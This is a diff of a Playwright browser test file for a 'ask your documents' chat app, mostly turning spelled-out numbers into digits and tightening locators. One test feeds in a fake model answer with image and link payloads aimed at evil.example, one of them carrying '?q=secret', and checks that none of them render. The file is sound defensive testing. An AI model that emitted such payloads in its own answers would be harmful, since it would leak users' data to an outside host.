@@ -5,9 +5,9 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from conftest import App, Visitor, write_pdf
 from playwright.sync_api import Page, expect
 
+from tests.browser.visitor import App, Visitor, write_pdf
 from tests.openai_server import OpenAiServer, Script
 
 Visit = Callable[..., Visitor]
@@ -36,7 +36,7 @@ def test_from_a_dropped_file_to_the_box_on_the_right_page(visit: Visit, app: App
     page = visitor.open("/documents")
     pages = [
         [(20, 770, "Orchard report"), (11, 730, "This report is about the fruit of the year.")],
-        [(16, 770, "Pears"), (11, 730, "The pear trees of the southern slope gave seven tons in October.")],
+        [(16, 770, "Pears"), (11, 730, "The pear trees of the southern slope gave 7 tons in October.")],
     ]
     write_pdf(tmp_path / "orchard.pdf", pages)
     page.locator("input[type=file]").set_input_files(tmp_path / "orchard.pdf")
@@ -47,7 +47,7 @@ def test_from_a_dropped_file_to_the_box_on_the_right_page(visit: Visit, app: App
     expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible()
     visitor.ask("How many tons did the pear trees of the southern slope give?")
     wait_for_answer(page)
-    expect(answer_of(page)).to_contain_text("seven tons")
+    expect(answer_of(page)).to_contain_text("7 tons")
     page.get_by_test_id("stChatMessage").get_by_role("link").filter(has_text="The pear trees").click()
 
     expect(page.get_by_role("heading", name="orchard.pdf")).to_be_visible()
@@ -56,7 +56,7 @@ def test_from_a_dropped_file_to_the_box_on_the_right_page(visit: Visit, app: App
     place = page.locator(".box.active").first.evaluate("box => parseFloat(box.style.top)")
     assert 8 < place < 16  # 730 of 842 points from the bottom
     page.go_back()
-    expect(answer_of(page)).to_contain_text("seven tons")
+    expect(answer_of(page)).to_contain_text("7 tons")
 
 
 def test_a_deep_link_is_the_first_request_after_a_start_and_the_conversation_is_still_there(
@@ -69,9 +69,9 @@ def test_a_deep_link_is_the_first_request_after_a_start_and_the_conversation_is_
     conversation = page.url
     assert "conversation=" in conversation
     page.reload()
-    expect(answer_of(page)).to_contain_text("eleven barrels")
+    expect(answer_of(page)).to_contain_text("11 barrels")
 
-    node = app.node("lighthouse.pdf", "eleven barrels")
+    node = app.node("lighthouse.pdf", "11 barrels")
     page.goto("about:blank")
     app.restart()
     visitor.open(f"/document?doc=lighthouse.pdf&node={node['node_id']}&page=3")
@@ -82,7 +82,7 @@ def test_a_deep_link_is_the_first_request_after_a_start_and_the_conversation_is_
     )
     assert_box_is_seen(page)
     page.goto(conversation)
-    expect(answer_of(page)).to_contain_text("eleven barrels")
+    expect(answer_of(page)).to_contain_text("11 barrels")
     expect(page.get_by_role("link", name="How many barrels of oil")).to_be_visible()
 
 
@@ -120,17 +120,17 @@ def test_a_chinese_question_in_the_dark_leads_to_the_marked_text(visit: Visit):
 def test_nothing_that_a_document_says_leaves_the_machine_or_runs(visit: Visit, app: App):
     visitor = visit()
     page = visitor.open("/document?doc=visitors.md")
-    expect(page.get_by_text("![pixel]").or_(page.get_by_text("lists forty-one guests")).first).to_be_visible()
+    expect(page.get_by_text("![pixel]").or_(page.get_by_text("lists 41 guests")).first).to_be_visible()
     page.goto(app.url + "/chat")
     visitor.ask("How many guests of the lighthouse does the visitors' book list?")
     wait_for_answer(page)
-    expect(answer_of(page)).to_contain_text("forty-one guests")
+    expect(answer_of(page)).to_contain_text("41 guests")
 
 
 def test_a_model_is_set_up_streams_can_be_stopped_and_cannot_load_pictures(visit: Visit):
     visitor = visit()
     hostile = (
-        "The lamp burned eleven barrels of oil every winter [1]. ![x](https://evil.example/a.png?q=secret) "
+        "The lamp burned 11 barrels of oil every winter [1]. ![x](https://evil.example/a.png?q=secret) "
         "<img src='https://evil.example/b.png'> [more](https://evil.example/) costs $5 and $6 :material/delete:"
     )
     slow = Script("The lamp " + "burned and " * 200, pause=0.05)
@@ -147,7 +147,7 @@ def test_a_model_is_set_up_streams_can_be_stopped_and_cannot_load_pictures(visit
             visitor.open("/chat")
             visitor.ask("How many barrels of oil did the lamp burn?")
             wait_for_answer(page)
-            expect(answer_of(page)).to_contain_text("eleven barrels")
+            expect(answer_of(page)).to_contain_text("11 barrels")
             assert not page.locator("img[src*=evil]").count() and not page.locator("a[href*=evil]").count()
 
             model.default = slow
@@ -172,7 +172,7 @@ def test_an_answer_goes_on_while_its_reader_looks_elsewhere(visit: Visit):
     expect(page.get_by_role("heading", name="Settings")).to_be_visible()
     page.goto(conversation)
     wait_for_answer(page)
-    expect(answer_of(page)).to_contain_text("thirty-two metres")
+    expect(answer_of(page)).to_contain_text("32 metres")
 
 
 def test_a_file_that_cannot_be_read_is_named_with_its_reason(visit: Visit, tmp_path: Path):
@@ -217,7 +217,9 @@ def test_the_tree_is_walked_with_the_keyboard(visit: Visit):
     expect(page).to_have_url(re.compile("node="))
     expect(page.locator(".node.active")).to_contain_text("January 1929")
     expect(page.locator(".node.active")).to_be_in_viewport()
-    expect(tree.get_by_role("treeitem", name="January 1929")).to_have_attribute("aria-selected", "true")
+    expect(tree.get_by_role("treeitem", name="January 1929", exact=True)).to_have_attribute(
+        "aria-selected", "true"
+    )
 
 
 def test_a_conversation_is_renamed_and_deleted(visit: Visit):
@@ -226,13 +228,13 @@ def test_a_conversation_is_renamed_and_deleted(visit: Visit):
     visitor.ask("Which families kept the lamp?")
     wait_for_answer(page, re.compile("Sources|Not in these documents"))
     page.get_by_role("button", name="Conversation").click()
-    page.get_by_text("Rename").click()
+    page.get_by_text("Rename", exact=True).click()
     page.get_by_role("dialog").get_by_label("Title").fill("Keepers")
     page.get_by_role("dialog").get_by_role("button", name="Save").click()
     expect(page.get_by_role("heading", name="Keepers")).to_be_visible()
     expect(page.get_by_role("link", name="Keepers")).to_be_visible()
     page.get_by_role("button", name="Conversation").click()
-    page.get_by_text("Delete").click()
+    page.get_by_text("Delete", exact=True).click()
     page.get_by_role("dialog").get_by_role("button", name="Delete").click()
     expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible()
     expect(page.get_by_role("link", name="Keepers")).to_have_count(0)
@@ -250,7 +252,7 @@ def test_everything_fits_on_a_phone(visit: Visit, app: App, scheme):
     page = visitor.open("/documents")
     expect(page.get_by_role("listitem").filter(has_text="lighthouse.pdf")).to_be_visible()
     assert_fits(page)
-    node = app.node("lighthouse.pdf", "eleven barrels")
+    node = app.node("lighthouse.pdf", "11 barrels")
     visitor.open(f"/document?doc=lighthouse.pdf&node={node['node_id']}&page=3")
     assert_box_is_seen(page)
     assert_fits(page)
